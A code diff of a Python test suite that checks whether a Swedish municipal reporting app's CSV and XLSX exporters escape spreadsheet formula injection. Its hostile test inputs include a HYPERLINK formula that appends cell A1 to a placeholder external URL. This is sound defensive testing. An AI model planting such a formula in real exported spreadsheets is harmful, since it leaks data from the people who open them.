@@ -15,6 +15,7 @@ import importlib
 import inspect
 import io
 import pkgutil
+import re
 from datetime import date
 from pathlib import Path
 
@@ -24,9 +25,10 @@ from test_lots_support import case, county, register
 
 import finsam_desktop
 import finsam_desktop.reports
+from finsam_desktop.domain import periods
 from finsam_desktop.domain.lots import CategoryKind, LotsCategory
-from finsam_desktop.reports import audit_export, cells, tabular
-from finsam_desktop.reports.tabular import Table
+from finsam_desktop.reports import audit_export, cells, export
+from finsam_desktop.reports.model import Column, Kind, Report, Table
 
 HOSTILE = [
     '=HYPERLINK("http://exempel.invalid/?x="&A1,"Klicka")',
@@ -57,28 +59,27 @@ def test_the_rule_itself():
 # --- every writer of finsam_desktop.reports ---------------------------------------
 
 
-def hostile_tables() -> tuple[list[Table], list[str]]:
+def hostile_report() -> Report:
     table = Table(
         "t",
         HOSTILE[0],
-        [*HOSTILE[:3], "Antal"],
-        [[text, n, text, n] for text, n in zip(HOSTILE, NUMBERS * 2, strict=True)],
-        note=HOSTILE[3],
-        total=[HOSTILE[4], -7, None, 1],
-        percent_columns={1},
-    )
-    second = Table("u", HOSTILE[5], ["Namn"], [[t] for t in HOSTILE])
-    return [table, second], [HOSTILE[6], HOSTILE[7], "Sammanställning"]
+        [Column(HOSTILE[1], Kind.TEXT), Column(HOSTILE[2]), Column(HOSTILE[3], Kind.TEXT),
+         Column("Antal", Kind.NUMBER, 2)],
+        [[text, n, text, n] for text, n in zip(HOSTILE, NUMBERS * 2, strict=True)]
+        + [[HOSTILE[4], -7, None, 1]],
+        base=HOSTILE[3],
+        notes=[HOSTILE[4]],
+    )  # fmt: skip
+    second = Table("u", HOSTILE[5], [Column("Namn", Kind.TEXT)], [[t] for t in HOSTILE])
+    return Report(HOSTILE[6], HOSTILE[7], [("Kommun", HOSTILE[0])], [table, second])
 
 
-def write_tabular_csv(path: Path) -> Path:
-    tables, heading = hostile_tables()
-    return tabular.write_csv(path.with_suffix(".csv"), tables, heading)
+def write_report_csv(path: Path) -> Path:
+    return export.write(hostile_report(), path.with_suffix(".csv"), "csv")
 
 
-def write_tabular_xlsx(path: Path) -> Path:
-    tables, heading = hostile_tables()
-    return tabular.write_xlsx(path.with_suffix(".xlsx"), tables, heading)
+def write_report_xlsx(path: Path) -> Path:
+    return export.write_xlsx(hostile_report(), path.with_suffix(".xlsx"))
 
 
 def audit_rows() -> tuple[list[str], list[list]]:
@@ -96,8 +97,8 @@ def write_audit_xlsx(path: Path) -> Path:
 
 
 WRITERS = {
-    "finsam_desktop.reports.tabular.write_csv": write_tabular_csv,
-    "finsam_desktop.reports.tabular.write_xlsx": write_tabular_xlsx,
+    "finsam_desktop.reports.export.write_csv": write_report_csv,
+    "finsam_desktop.reports.export.write_xlsx": write_report_xlsx,
     "finsam_desktop.reports.audit_export.write_csv": write_audit_csv,
     "finsam_desktop.reports.audit_export.write_xlsx": write_audit_xlsx,
 }
@@ -115,7 +116,8 @@ def export_writers() -> set[str]:
                 continue
             if name.startswith("write") and ("csv" in name or "xlsx" in name):
                 found.add(f"{module.__name__}.{name}")
-    return found - {"finsam_desktop.reports.tabular.write_csv_rows"}  # used by write_csv
+    # export.write writes CSV itself (its csv branch is the report's CSV writer).
+    return found | {"finsam_desktop.reports.export.write_csv"}
 
 
 def test_every_writer_is_covered():
@@ -147,8 +149,8 @@ def assert_csv_safe(rows: list[list[str]], numbers=(), hostile=HOSTILE) -> None:
     for text in hostile:
         assert "'" + text in texts, text
     for c in texts:
-        if c in {str(n) for n in numbers}:
-            continue  # a number, written as a number
+        if c in {str(n) for n in numbers} or re.fullmatch(r"-?\d+(,\d+)?", c):
+            continue  # a number, written as a number (the Swedish way: -0,25)
         assert not c.startswith(cells.FORMULA_START), repr(c)
 
 
@@ -204,12 +206,13 @@ def hostile_lots(tmp_path):
         }
     kinds = dict(zip(HOSTILE, [*CategoryKind] * 3, strict=False))
     for text, cid in made.items():
-        field = {"question": "question_id", "action": "action_id", "outcome": "outcome_id"}
+        field = {"question": "question_id", "action": "action_id", "outcome": "outcome_ids"}
+        value = [cid] if kinds[text].value == "outcome" else cid
         register(
             db,
             1,
             case(ids, "Håbo", date(2016, 6, 1)),
-            **{field[kinds[text].value]: cid},
+            **{field[kinds[text].value]: value},
         )
     return db, path
 
@@ -243,7 +246,7 @@ def test_lots_summary_screen_exports_are_safe(hostile_lots, tmp_path, qapp, qtbo
     db, _path = hostile_lots
     tab = SummaryTab(app_context(db, tmp_path))
     qtbot.addWidget(tab)
-    tab.year.setValue(2016)
+    tab.picker.set_period(periods.year(2016))
     tab.refresh(force=True)
     assert tab.summary is not None and tab.summary.cases == len(HOSTILE)
     assert_csv_safe(
